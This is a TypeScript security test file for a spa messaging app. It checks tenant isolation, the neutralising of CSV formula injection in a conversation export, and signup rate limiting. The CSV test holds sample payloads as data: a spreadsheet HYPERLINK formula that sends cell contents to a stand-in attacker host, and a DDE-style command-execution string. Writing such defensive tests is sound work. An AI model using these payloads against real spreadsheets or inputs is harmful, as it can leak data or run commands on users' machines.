// Route-level replays against the production build (`next start` on this run's database): another
// spa's pages, a formula planted in a contact's name reaching the owner's spreadsheet, and a burst of
// signups from one address.
import { randomUUID } from "node:crypto";
import { and, eq, gte, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { upsertContact } from "@/db/queries/contacts";
import { touchConversation } from "@/db/queries/conversations";
import { contacts, conversations, members, signInAttempts } from "@/db/schema";
import { ATTEMPT_LIMITS } from "@/lib/auth/attempt-limit";
import { signUpOrganization } from "@/lib/onboarding/signup";
import { parseCsv } from "../csv-parse";
import { signInOverHttp, uniqueCaller, useSecurityHarness } from "./harness";

const h = useSecurityHarness({ server: true });

describe("a signed-in attacker on the production server", () => {
  it("opens its own inbox but gets no page of the victim's conversation", async () => {
    const cookie = await signInOverHttp(h.server!, { email: h.attacker.ownerEmail, password: h.attacker.password });
    const inbox = await fetch(`${h.server!.url}/inbox`, { headers: { cookie }, redirect: "manual" });
    expect(inbox.status).toBe(200);
    const [victims] = await h.db.select({ id: conversations.id }).from(conversations).where(eq(conversations.orgId, h.victim.orgId)).limit(1);
    const page = await fetch(`${h.server!.url}/inbox/${victims!.id}`, { headers: { cookie }, redirect: "manual" });
    const html = await page.text();
    expect(page.status).toBe(404);
    expect(html).not.toContain("Glow Med Spa");
  });
});

describe("CSV injection (item 15)", () => {
  it("a contact name that is a spreadsheet formula reaches the owner's export as inert text", async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    const afterSemicolon = "Ann;=cmd|' /C calc'!A0";
    const names = [formula, afterSemicolon];
    for (const name of names) {
      const { contact } = await upsertContact({ orgId: h.victim.orgId, phone: uniqueCaller() }, h.db);
      await h.db.update(contacts).set({ name }).where(eq(contacts.id, contact.id));
      await touchConversation({ orgId: h.victim.orgId, locationId: h.victim.locationId, contactId: contact.id, kind: "reply", at: new Date(), unread: true }, h.db);
    }
    const cookie = await signInOverHttp(h.server!, { email: h.victim.ownerEmail, password: h.victim.password });
    // "Today" in UTC is not today at the spa for part of every day (after 00:00 UTC it is still
    // yesterday in Los Angeles): the range takes the UTC days either side, so the rows just written are in it.
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const response = await fetch(`${h.server!.url}/roi/export/conversations.csv?from=${day(-1)}&to=${day(1)}`, { headers: { cookie } });
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text());
    const column = rows[0]!.indexOf("contact_name");
    const exported = rows.slice(1).map((row) => row[column]);
    expect(exported).toContain(`'${formula}`);
    expect(exported).toContain("Ann;'=cmd|' /C calc'!A0");
    expect(exported.filter((cell) => cell && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe("signup floods (item 12)", () => {
  it("an address past its signup budget is refused before a spa is created, and the refusal is logged", async () => {
    const ip = "203.0.113.77";
    const { max } = ATTEMPT_LIMITS.signup;
    const now = new Date();
    await h.db
      .insert(signInAttempts)
      .values(Array.from({ length: max }, (_, i) => ({ action: "signup", email: `flood-${i}@attacker.test`, ip, attemptedAt: new Date(now.getTime() - 60_000) })));
    const refusedBefore = (await h.refusals(null, "rate_limited")).length;
    const email = `flood-${randomUUID()}@attacker.test`;
    const result = await signUpOrganization({ spaName: "Flood Spa", name: "Flood Owner", email, password: "correct horse battery staple" }, { ip, now });
    expect(result).toMatchObject({ ok: false, reason: "rate_limited" });
    expect(
      await h.db
        .select()
        .from(members)
        .where(eq(sql`lower(${members.email})`, email)),
    ).toEqual([]);
    expect((await h.refusals(null, "rate_limited")).length).toBe(refusedBefore + 1);
    // Another address is not held back by this one's flood.
    const other = await signUpOrganization(
      { spaName: "Honest Spa", name: "Honest Owner", email: `honest-${randomUUID()}@spa.test`, password: "correct horse battery staple" },
      { ip: "203.0.113.78", now },
    );
    expect(other.ok).toBe(true);
    const recent = await h.db
      .select()
      .from(signInAttempts)
      .where(and(eq(signInAttempts.ip, ip), gte(signInAttempts.attemptedAt, new Date(now.getTime() - 3_600_000))));
    expect(recent.length).toBeGreaterThanOrEqual(max);
  });
});
